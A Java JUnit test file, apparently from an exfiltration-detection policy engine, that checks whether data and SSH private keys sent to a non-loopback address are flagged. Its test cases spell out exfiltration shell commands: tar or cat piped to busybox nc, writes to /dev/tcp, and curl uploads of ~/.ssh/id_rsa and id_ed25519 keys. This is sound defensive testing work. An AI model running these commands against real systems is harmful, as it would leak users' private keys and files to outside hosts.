package io.totem.policy.behaviour;

import static org.assertj.core.api.Assertions.assertThat;

import io.totem.policy.facts.Behaviour;
import io.totem.policy.facts.Relations.Exfiltration;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Data on its way over a connection to an address of this machine that is not the loopback's. */
class RealExfiltrationTest {

    private final WatchedHost host = new WatchedHost();

    @TempDir
    Path folder;

    @AfterEach
    void end() throws InterruptedException {
        host.close();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
                    tar c $F | busybox nc $A $P~tar
                    tar c $F | gzip | busybox nc $A $P~tar
                    dd if=$F/x 2>/dev/null | cat | busybox nc $A $P~dd
                    cat $F/x | busybox nc $A $P~cat
                    tar c $F | curl -sT - telnet://$A:$P~tar
                    """)
    void what_an_archiver_or_a_file_hands_on_is_told(String pipeline, String from) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process sends = host.start("bash", "-c", filled(pipeline, server));
            try (Socket _ = server.accept()) {
                assertThat(sent(sends)).satisfies(exfiltration -> {
                    assertThat(exfiltration.from()).isEqualTo(from);
                    assertThat(exfiltration.secret()).isEmpty();
                    assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
                });
            }
        }
    }

    @Test
    void a_file_that_is_put_in_is_told_and_so_is_a_key() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Path key = Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa");
            Files.writeString(key, "x".repeat(4_000_000));
            Process sends = host.start("bash", "-c", filled("busybox nc $A $P < " + key, server));
            try (Socket _ = server.accept()) {
                assertThat(sent(sends).secret()).contains(key.toString());
            }
        }
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
                    cat $F/x > /dev/tcp/$A/$P; true~$F/x~false
                    exec 3<>/dev/tcp/$A/$P; tar c $F >&3; true~$F~false
                    (cat $F/.ssh/id_rsa; sleep 60; true) > /dev/tcp/$A/$P~$F/.ssh/id_rsa~true
                    """)
    void what_a_shell_lets_a_program_write_into_a_connection_is_told(String text, String from, boolean secret)
            throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Files.writeString(Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa"), "x");
            Process sends = host.start("bash", "-c", filled(text, server));
            try (Socket _ = server.accept()) {
                assertThat(sent(sends)).satisfies(exfiltration -> {
                    assertThat(exfiltration.from()).isEqualTo(from.replace("$F", folder.toString()));
                    assertThat(exfiltration.secret().isPresent()).isEqualTo(secret);
                    assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
                });
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "while sleep 1; do echo metric; done > /dev/tcp/$A/$P",
                "exec 3<>/dev/tcp/$A/$P; while sleep 1; do echo metric >&3; done",
                "(sleep 60; cat) > /dev/tcp/$A/$P"
            })
    void what_a_shell_says_itself_is_a_message(String text) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process sends = host.start("bash", "-c", filled(text, server));
            try (Socket _ = server.accept()) {
                host.neverBelow(sends, "sleep", RealExfiltrationTest::isSending);
            }
        }
    }

    @Test
    void a_file_is_told_though_somebody_else_holds_it_to_write_to_it() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process sends =
                    host.start("bash", "-c", filled("sleep 60 >> $F/x & busybox nc $A $P < $F/x; true", server));
            try (Socket _ = server.accept()) {
                host.below(sends, RealExfiltrationTest::isSending);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -sT $K telnet://$A:$P",
                "curl -s --data-binary @$K http://$A:$P/",
                "curl -sF k=@$K http://$A:$P/"
            })
    void a_key_that_curl_is_told_to_send_is_told_and_another_file_is_not(String command) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 2, WatchedHost.anotherMachine())) {
            Path keys = Files.createDirectory(folder.resolve(".ssh"));
            Path key = Files.writeString(keys.resolve("id_ed25519"), "x".repeat(4_000_000));
            Path other = Files.writeString(folder.resolve("photo.jpg"), "x".repeat(4_000_000));
            Process sends = host.start("bash", "-c", filled(command.replace("$K", key.toString()), server) + "; true");
            Process shows =
                    host.start("bash", "-c", filled(command.replace("$K", other.toString()), server) + "; true");
            assertThat(sent(sends).secret()).contains(key.toString());
            host.neverBelow(shows, "curl", RealExfiltrationTest::isSending);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "while sleep 1; do echo metric; done | busybox nc $A $P",
                "tail -f $F/x | busybox nc $A $P",
                "mkfifo $F/f; busybox nc $A $P < $F/f | (while read -r l; do echo $l; done; sleep 60) > $F/f",
                "tar c $F | (sleep 60; busybox nc $A $P)"
            })
    void a_script_or_a_log_is_not(String pipeline) throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, WatchedHost.anotherMachine())) {
            Process sends = host.start("bash", "-c", filled(pipeline, server));
            host.neverBelow(sends, pipeline.startsWith("tar") ? "sleep" : "busybox", RealExfiltrationTest::isSending);
        }
    }

    @Test
    void what_stays_on_this_machine_is_not() throws IOException {
        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Files.writeString(folder.resolve("x"), "x".repeat(4_000_000));
            Process sends =
                    host.start("bash", "-c", "tar c " + folder + " | busybox nc 127.0.0.1 " + server.getLocalPort());
            try (Socket _ = server.accept()) {
                host.neverBelow(sends, "busybox", RealExfiltrationTest::isSending);
            }
        }
    }

    private String filled(String text, ServerSocket server) throws IOException {
        if (!Files.exists(folder.resolve("x"))) {
            byte[] noise = new byte[8_000_000];
            new Random(1).nextBytes(noise);
            Files.write(folder.resolve("x"), noise);
        }
        return text.replace("$F", folder.toString())
                .replace("$A", server.getInetAddress().getHostAddress())
                .replace("$P", Integer.toString(server.getLocalPort()));
    }

    private Exfiltration sent(Process sends) {
        return host.below(sends, RealExfiltrationTest::isSending)
                .relations()
                .exfiltration()
                .orElseThrow();
    }

    private static boolean isSending(Behaviour seen) {
        return seen.relations().exfiltration().isPresent();
    }
}
